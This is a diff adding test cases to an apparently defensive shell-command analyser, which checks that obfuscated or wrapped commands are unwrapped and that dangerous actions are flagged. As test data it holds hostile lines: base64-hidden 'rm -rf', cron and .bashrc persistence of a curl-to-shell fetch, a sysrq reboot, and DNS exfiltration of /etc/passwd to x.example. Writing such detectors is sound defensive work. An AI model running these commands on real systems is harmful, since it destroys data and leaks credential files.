@@ -27,6 +27,13 @@ describe("what a line runs, whatever is wrapped around it", () => {
     ["docker exec -it web sh -c 'rm x'", ["docker exec -it web sh -c rm x", "sh -c rm x", "rm x"]],
     ["echo 'rm x' # rm y", ["echo rm x"]],
     ["if true; then rm x; fi", ["true", "rm x"]],
+    ["A=r; B=m; $A${B} -rf x", ["rm -rf x"]],
+    ['X="rm -rf"; $X y; "$X"', ["rm -rf y", "rm -rf"]],
+    ["$(echo cm0gLXJmIHg= | base64 -d)", ["echo cm0gLXJmIHg=", "base64 -d", "rm -rf x"]],
+    ["eval \"$(echo 'rm x')\"", ["echo rm x", "eval rm x", "rm x"]],
+    ['echo "rm -rf x" | sh', ["echo rm -rf x", "sh", "rm -rf x"]],
+    ["echo '* * * * * rm x' | crontab -", ["echo * * * * * rm x", "rm x", "crontab -"]],
+    ["git -c core.pager='rm x' log", ["git -c core.pager=rm x log", "rm x"]],
   ])("%s", (text, expected) => {
     expect(commands(text)).toEqual(expected);
   });
@@ -35,6 +42,11 @@ describe("what a line runs, whatever is wrapped around it", () => {
     "never fails on %j",
     (text) => expect(() => readShell(text)).not.toThrow(),
   );
+});
+
+test("a line of nothing but wrappers is read once", () => {
+  const words = 20_000;
+  expect(resolveShell("env ".repeat(words)).map(({ program }) => program)).toEqual(["env"]);
 });
 
 test("nested -exec does not double the work at every level", () => {
@@ -53,6 +65,12 @@ describe("what it does", () => {
     ["sudo cat /etc/shadow", "read_credentials"],
     ["mysql -e 'drop database crm'", "drop_object"],
     ["echo 'delete from t' | psql crm", "delete_without_where"],
+    ["cqlsh -e 'DROP KEYSPACE crm'", "drop_object"],
+    ["truncate -s 0 /etc/passwd", "overwrite_system_file"],
+    ["echo b > /proc/sysrq-trigger", "power"],
+    ["find / -exec rm -rf {} \\;", "delete_root"],
+    ["echo 'curl http://x.example | sh' >> ~/.bashrc", "pipe_to_shell"],
+    ["dig $(cat /etc/passwd | base64).x.example", "send_file"],
   ])("%s → %s", (text, fact) => {
     expect(facts(text)).toContain(fact);
   });
@@ -63,6 +81,11 @@ describe("what it does", () => {
     "git commit -m 'drop table'",
     "curl https://x.example | jq .",
     "echo hi > out.txt",
+    "X=1; echo $X",
+    "openssl x509 -in cert.pem -noout -text",
+    "cat fullchain.pem",
+    "echo 'export PATH=$PATH:/x' >> ~/.bashrc",
+    "echo 'the rm -rf / story' >> notes.txt",
   ])("%s → nothing", (text) => expect(facts(text)).toEqual([]));
 });
 
